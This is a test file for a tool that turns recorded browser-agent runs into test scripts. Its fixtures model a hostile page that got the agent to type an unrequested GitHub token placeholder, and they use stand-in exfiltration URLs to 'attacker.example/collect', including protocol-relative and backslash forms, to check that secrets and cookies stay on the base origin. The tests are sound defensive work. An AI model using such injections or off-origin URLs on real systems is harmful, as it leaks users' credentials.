import type { TraceRecord } from "@sextant/executor"
import { describe, expect, it } from "vitest"
import {
  type ApiExchange,
  exportApiTests,
  exportWdioScript,
  formatTestSuite,
  runToTestSuite,
} from "../src/index.ts"
import { runGenerated } from "./support/GeneratedCode.ts"

const BASE = "http://127.0.0.1:9"
const ENVIRONMENT = {
  API_COOKIE: "session=cookie-value",
  SEXTANT_SECRET_PASSWORD: "marked-secret-password",
  SEXTANT_SECRET_GITHUB_TOKEN: "ghp_leaked-token",
  SEXTANT_SECRET_ADMIN_PASSWORD: "leaked-admin-password",
}

/** A run whose only secret was `password`, where a hostile page got the model to type `<secret:github_token>`. */
const hostileRun = (): ReadonlyArray<TraceRecord> => {
  const at = "2026-01-01T00:00:00.000Z"
  const start = `${BASE}/start`
  return [
    { type: "run-start", taskId: "t", goal: "sign in", mode: "agent", resumed: false },
    {
      type: "recorded",
      step: 1,
      exchanges: [],
      actions: [
        { kind: "navigate", via: "navigate", url: start },
        {
          kind: "act",
          op: "input",
          element: { role: "textbox", name: "Email", selector: "#email" },
          value: "<secret:github_token>",
          urlBefore: start,
          url: start,
        },
        {
          kind: "act",
          op: "input",
          element: { role: "textbox", name: "Password", selector: "#password" },
          value: "<secret:password>",
          urlBefore: start,
          url: start,
        },
      ],
    },
    { type: "run-end", status: "COMPLETED", endReason: "completed", metrics: {} },
  ].map((record) => ({ ...record, runId: "r", at })) as unknown as ReadonlyArray<TraceRecord>
}

const json = { status: 200, responseContentType: "application/json", responseBody: "{}" } as const

describe("a run exported as a spec or a WebdriverIO script", () => {
  it("reads no environment variable for a placeholder when no secrets are given, and says the placeholder is written as text", () => {
    const { suite, notes } = runToTestSuite(hostileRun())
    const yaml = formatTestSuite(suite, "yaml")
    expect(yaml).not.toContain("variable:")
    expect(yaml).toContain("<secret:github_token>")
    expect(exportWdioScript(suite)).not.toMatch(/SEXTANT_SECRET_/)
    expect(notes).toContain(
      'step 1: input on textbox "Email" typed <secret:github_token>, which is not a secret of the run (no secrets were given): written as literal text, never read from the environment',
    )
  })

  it("reads only the run's own secret: a placeholder the page named is typed as text, never read from SEXTANT_SECRET_GITHUB_TOKEN", async () => {
    const { suite, notes } = runToTestSuite(hostileRun(), { secrets: ["password"] })
    const yaml = formatTestSuite(suite, "yaml")
    expect(yaml).toContain("variable: SEXTANT_SECRET_PASSWORD")
    expect(yaml).not.toContain("SEXTANT_SECRET_GITHUB_TOKEN")
    expect(notes.join("\n")).toContain(
      "typed <secret:github_token>, which is not a secret of the run (its secrets: password)",
    )
    const run = await runGenerated(exportWdioScript(suite), "run.wdio.ts", { ...ENVIRONMENT, BASE_URL: BASE })
    expect(run.envReads).not.toContain("SEXTANT_SECRET_GITHUB_TOKEN")
    expect(run.calls.filter((call) => call[0] === "setValue")).toEqual([
      ["setValue", "<secret:github_token>"],
      ["setValue", "marked-secret-password"],
    ])
  }, 60_000)
})

describe("a run's traffic exported as API tests", () => {
  it("sends a placeholder as its characters when no secrets are given: SEXTANT_SECRET_ADMIN_PASSWORD is never read", async () => {
    const exchanges: Array<ApiExchange> = [
      {
        method: "POST",
        url: `${BASE}/api/login`,
        requestBody: '{"k":"<secret:admin_password>"}',
        requestContentType: "application/json",
        ...json,
      },
    ]
    const source = exportApiTests(exchanges, { name: "x" })
    expect(source).not.toMatch(/SEXTANT_SECRET_/)
    const run = await runGenerated(source, "plain.api.test.ts", { ...ENVIRONMENT, API_BASE_URL: BASE }, [
      { method: "POST", url: `${BASE}/api/login`, status: 200, body: "{}" },
    ])
    expect(run.envReads).not.toContain("SEXTANT_SECRET_ADMIN_PASSWORD")
    expect(run.calls.filter((call) => call[0] === "fetch").map((call) => call[4])).toEqual([
      '{"k":"<secret:admin_password>"}',
    ])
  }, 60_000)

  it("requests a recorded `//attacker.example:9/collect` on the base URL, so the cookie and the secret never reach attacker.example", async () => {
    const exchanges: Array<ApiExchange> = [
      { method: "GET", url: `${BASE}/api/me`, ...json },
      {
        method: "POST",
        url: `${BASE}//attacker.example:9/collect`,
        requestBody: '{"k":"<secret:password>"}',
        requestContentType: "application/json",
        ...json,
      },
      { method: "GET", url: `${BASE}/\\\\attacker.example:9/backslashes`, ...json },
    ]
    const source = exportApiTests(exchanges, { name: "x", secrets: ["password"] })
    const run = await runGenerated(source, "paths.api.test.ts", { ...ENVIRONMENT, API_BASE_URL: BASE })
    const fetched = run.calls.filter((call) => call[0] === "fetch").map((call) => call[1])
    expect(fetched).toEqual([
      `${BASE}/api/me`,
      `${BASE}/attacker.example:9/collect`,
      `${BASE}/attacker.example:9/backslashes`,
    ])
  }, 60_000)

  it("refuses at run time a URL that resolves off the base URL's origin (a secret in the path that starts with `/`): nothing is sent", async () => {
    const exchanges: Array<ApiExchange> = [{ method: "GET", url: `${BASE}/%3Csecret%3Apassword%3E`, ...json }]
    const source = exportApiTests(exchanges, { name: "x", secrets: ["password"] })
    const run = await runGenerated(source, "runtime.api.test.ts", {
      ...ENVIRONMENT,
      SEXTANT_SECRET_PASSWORD: "/attacker.example:9/collect",
      API_BASE_URL: BASE,
    })
    expect(run.calls.filter((call) => call[0] === "fetch")).toEqual([])
    expect(run.calls.filter((call) => call[0] === "error").map((call) => call[1])).toEqual([
      `Error: //attacker.example:9/collect resolves to http://attacker.example:9, not the base URL's origin ${BASE}: not sent`,
    ])
  }, 60_000)
})
